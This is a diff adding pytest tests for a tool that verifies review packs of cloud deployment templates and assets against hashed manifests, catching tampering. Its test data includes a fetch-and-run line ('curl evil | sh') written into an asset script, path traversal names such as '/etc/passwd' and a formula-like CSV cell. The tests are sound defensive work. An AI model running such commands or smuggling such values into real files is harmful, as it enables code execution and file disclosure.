@@ -5,6 +5,8 @@ from __future__ import annotations
 import ast
 import hashlib
 import json
+import os
+import shutil
 import subprocess
 import sys
 from collections.abc import Callable
@@ -14,8 +16,11 @@ from typing import Any
 import pytest
 
 from emr_platform.assembly import load
+from emr_platform.review import _assets as assets_module
 from emr_platform.review import gather
-from emr_platform.review.pack import write_pack
+from emr_platform.review.pack import WRITERS, write_pack
+from emr_platform.review.pack import verify as verify_module
+from emr_platform.review.pack.verify import ALWAYS
 from scripts.setup import ROOT
 from tests.review.pack.samples import DAY, REGISTER, evidence, write, write_assembly
 
@@ -125,7 +130,70 @@ def test_a_manifest_is_held_to_a_hash_that_was_kept_elsewhere(pack: Path) -> Non
     assert verify(pack).returncode == 0
     ran = verify(pack, "--manifest-sha256", kept)
     assert ran.returncode == 1
-    assert f"not {kept}" in ran.stdout
+    assert f"not '{kept}'" in ran.stdout
+
+
+@pytest.mark.parametrize("kept", ["", " ", "3f7ca92a"])
+def test_a_hash_that_was_lost_is_none_that_fits(pack: Path, kept: str) -> None:
+    ran = verify(pack, "--manifest-sha256", kept)
+    assert (ran.returncode, ran.stderr) == (1, "")
+    assert f"not '{kept}'" in ran.stdout
+
+
+def linked(pack: Path) -> None:
+    (pack / "index.html").rename(pack.parent / "index.html")
+    (pack / "index.html").symlink_to("../index.html")
+
+
+@pytest.mark.parametrize(
+    ("spoil", "said"),
+    [
+        (linked, "index.html: is a link; what it leads to may change without the pack"),
+        (lambda pack: (pack / "more").symlink_to("/"), "more: is a link; what it leads to may change without the pack"),
+        (lambda pack: (pack / "x").symlink_to("gone"), "x: is a link; what it leads to may change without the pack"),
+        (lambda pack: os.mkfifo(pack / "pipe"), "pipe: is not named in MANIFEST.json"),
+    ],
+)
+def test_what_is_no_file_of_the_pack_is_found(pack: Path, spoil: Callable[[Path], object], said: str) -> None:
+    spoil(pack)
+    ran = verify(pack)
+    assert (ran.returncode, ran.stderr) == (1, "")
+    assert [line for line in ran.stdout.splitlines() if line.startswith("WRONG")] == [f"WRONG  {said}"]
+
+
+def edit_manifest(pack: Path, change: Callable[[dict[str, Any]], object]) -> None:
+    manifest = json.loads((pack / "MANIFEST.json").read_text(encoding="utf-8"))
+    change(manifest)
+    (pack / "MANIFEST.json").write_text(json.dumps(manifest), encoding="utf-8")
+
+
+def test_a_pack_without_a_file_that_every_pack_has_is_wrong(pack: Path) -> None:
+    assert set(ALWAYS) == {*WRITERS, "verify.py"} - {"oscal/poam.json"}
+    (pack / "findings.sarif").unlink()
+    edit_manifest(pack, lambda manifest: manifest["files"].pop("findings.sarif"))
+    ran = verify(pack)
+    assert "WRONG  findings.sarif: is not named in MANIFEST.json, and every pack has it" in ran.stdout.splitlines()
+
+
+@pytest.mark.parametrize("name", ["../outside", "/etc/passwd"])
+def test_a_manifest_names_files_of_its_folder(pack: Path, name: str) -> None:
+    (pack.parent / "outside").write_text("x", encoding="utf-8")
+    edit_manifest(pack, lambda manifest: manifest["files"].update({name: "0" * 64}))
+    assert f"WRONG  {name}: is no name of a file in a pack" in verify(pack).stdout.splitlines()
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"files": []}, {"files": None}, {"files": {"a": 1}}, {"inputs": {}}, {"inputs": [1]}, {"inputs": [{}]},
+        {"inputs": [{"file": "a", "kind": "template", "sha256": None}]},
+    ],
+)  # fmt: skip
+def test_a_manifest_of_another_shape_is_no_packs(pack: Path, change: dict[str, Any]) -> None:
+    edit_manifest(pack, lambda manifest: manifest.update(change))
+    ran = verify(pack, "--templates", str(pack))
+    assert (ran.returncode, ran.stdout) == (2, "")
+    assert "are not written as a pack's are" in ran.stderr
 
 
 def test_templates_are_held_to_their_hashes(pack: Path, tmp_path: Path) -> None:
@@ -166,6 +234,7 @@ def without_protection(folder: Path) -> None:
         ),
         (without_protection, ["manifest.json is another than was reviewed"]),
         (lambda folder: (folder / "manifest.json").unlink(), ["in/manifest.json: is not below"]),
+        (lambda folder: write(folder, name="unnamed"), ["unnamed.template.json: is a template that was not reviewed"]),
     ],
 )
 def test_a_cloud_assembly_is_held_to_its_manifest(
@@ -174,10 +243,8 @@ def test_a_cloud_assembly_is_held_to_its_manifest(
     """It says which templates are deployed, where to, and with what protection."""
     folder = write_assembly(tmp_path / "in", "dev")
     write_pack(gather(load([folder]), as_of=DAY), tmp_path / "pack")
-    write(folder, name="left-from-earlier")
     ran = verify(tmp_path / "pack", "--templates", str(folder))
     assert (ran.returncode, ran.stderr) == (0, "")
-    (folder / "left-from-earlier.template.json").unlink()
     spoil(folder)
     ran = verify(tmp_path / "pack", "--templates", str(folder))
     assert ran.returncode == 1
@@ -199,6 +266,109 @@ def test_templates_that_were_not_reviewed_are_found(pack: Path, tmp_path: Path) 
         f"WRONG  {inner / name}: is a template that was not reviewed"
         for name in ("assembly-prod/emr-prod-jobs.template.json", "evil.template.json")
     ]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "{Resources: {A: {Type: T}}}",
+        "--- {Resources: {A: {Type: T}}}",
+        "? Resources\n: {A: {Type: T}}",
+        "Resources:\n  <<: *more\n",
+        "{'Resources' : {A: {Type: T}}}",
+        "Resources: {A: {Type: T}}".encode("utf-16"),
+    ],
+)
+def test_a_template_is_found_however_it_is_written(pack: Path, tmp_path: Path, text: str | bytes) -> None:
+    (tmp_path / "in" / "evil.yaml").write_bytes(text if isinstance(text, bytes) else text.encode())
+    wrong = [line for line in verify(pack, "--templates", str(tmp_path / "in")).stdout.splitlines() if "WRONG" in line]
+    assert wrong == [f"WRONG  {tmp_path / 'in' / 'evil.yaml'}: is a template that was not reviewed"]
+
+
+def test_a_link_to_templates_elsewhere_is_found(pack: Path, tmp_path: Path) -> None:
+    (tmp_path / "in" / "here").symlink_to(".")
+    assert verify(pack, "--templates", str(tmp_path / "in")).returncode == 0
+    (tmp_path / "in" / "there").symlink_to("..")
+    ran = verify(pack, "--templates", str(tmp_path / "in"))
+    assert f"WRONG  {tmp_path / 'in' / 'there'}: is a link to a folder elsewhere, which was not reviewed" in ran.stdout
+
+
+def with_assets(folder: Path) -> Path:
+    """A cloud assembly with a nested stack, a script and the folder of a function."""
+    write_assembly(folder, "dev")
+    nested = {"Resources": {"N": {"Type": "AWS::CloudFormation::Stack", "Metadata": {"aws:asset:path": "n.json"}}}}
+    (folder / "emr-dev-jobs.template.json").write_text(json.dumps(nested), encoding="utf-8")
+    (folder / "n.json").write_text('{"Resources": {}}', encoding="utf-8")
+    (folder / "asset.1").mkdir()
+    (folder / "asset.1" / "index.py").write_text("handler = print", encoding="utf-8")
+    (folder / "asset.1" / "template.yaml").write_text("Resources: {A: {Type: T}}", encoding="utf-8")
+    (folder / "asset.2.sh").write_text("true", encoding="utf-8")
+    sources = {"1": "asset.1", "2": "asset.2.sh", "3": "n.json", "4": "gone.zip"}
+    lists = {"files": {key: {"source": {"path": path}} for key, path in sources.items()}}
+    (folder / "jobs.assets.json").write_text(json.dumps(lists), encoding="utf-8")
+    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
+    manifest["artifacts"]["jobs.assets"] = {
+        "type": "cdk:asset-manifest", "properties": {"file": "jobs.assets.json"},
+    }  # fmt: skip
+    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
+    return folder
+
+
+def with_a_copy(folder: Path) -> None:
+    """Things as they were where a look for the last part of their name finds them first."""
+    shutil.copytree(folder, folder / folder.name)
+    (folder / "n.json").write_text('{"Resources": {"Evil": {"Type": "T"}}}', encoding="utf-8")
+
+
+@pytest.mark.parametrize(
+    ("spoil", "said"),
+    [
+        (lambda folder: (folder / "asset.2.sh").write_text("curl evil | sh"), ["asset.2.sh is another than was"]),
+        (lambda folder: (folder / "asset.1" / "index.py").write_text("evil"), ["asset.1 is another than was reviewed"]),
+        (lambda folder: (folder / "asset.1" / "more.py").write_text("evil"), ["asset.1 is another than was reviewed"]),
+        (lambda folder: (folder / "asset.2.sh").unlink(), ["in/asset.2.sh: is not below"]),
+        (lambda folder: (folder / "jobs.assets.json").write_text("{}"), ["jobs.assets.json is another than was"]),
+        (lambda folder: (folder / "o.assets.json").write_text("{}"), ["names assets that were not reviewed"]),
+        (lambda folder: (folder / "n.json").write_text("{}"), ["n.json is another than was reviewed"]),
+    ],
+)
+def test_assets_are_held_to_what_was_reviewed(tmp_path: Path, spoil: Callable[[Path], object], said: list[str]) -> None:
+    folder = with_assets(tmp_path / "in")
+    write_pack(gather(load([folder]), as_of=DAY), tmp_path / "pack")
+    ran = verify(tmp_path / "pack", "--templates", str(folder))
+    assert (ran.returncode, ran.stderr) == (0, ""), ran.stdout
+    spoil(folder)
+    ran = verify(tmp_path / "pack", "--templates", str(folder))
+    assert ran.returncode == 1
+    wrong = [line for line in ran.stdout.splitlines() if line.startswith("WRONG")]
+    assert all(words in line for words, line in zip(said, wrong, strict=True))
+
+
+def test_a_copy_of_what_was_reviewed_stands_for_nothing(tmp_path: Path) -> None:
+    folder = with_assets(tmp_path / "in")
+    write_pack(gather(load([folder]), as_of=DAY), tmp_path / "pack")
+    with_a_copy(folder)
+    ran = verify(tmp_path / "pack", "--templates", str(folder))
+    assert ran.returncode == 1
+    assert f"{folder / 'n.json'}: is a template that was not reviewed" in ran.stdout
+
+
+def test_one_list_of_results_is_held_to_the_other(tmp_path: Path) -> None:
+    body = {"Resources": {"=1;=2\n@x": {"Type": "AWS::S3::Bucket"}, "B": {"Type": "AWS::S3::Bucket"}}}
+    write_pack(evidence(tmp_path / "in", body=body), tmp_path / "pack")
+    assert verify(tmp_path / "pack").returncode == 0
+    edit(lambda read: next(one for one in read["results"] if one["status"] == "FAIL").update(status="PASS"))(
+        tmp_path / "pack"
+    )
+    assert "evidence.csv: its results are not those of evidence.json" in verify(tmp_path / "pack").stdout
+
+
+def test_folders_are_hashed_as_the_review_hashes_them(tmp_path: Path) -> None:
+    for folder in (tmp_path / "a", tmp_path / "a" / "b"):
+        folder.mkdir()
+        (folder / "\u00e4.txt").write_text("x", encoding="utf-8")
+    assert verify_module.digest(tmp_path / "a") == assets_module.digest(tmp_path / "a")
+    assert verify_module.digest(tmp_path / "a") != verify_module.digest(tmp_path / "a" / "b")
 
 
 @pytest.mark.parametrize("text", [None, "no json", "[]", "{}"])
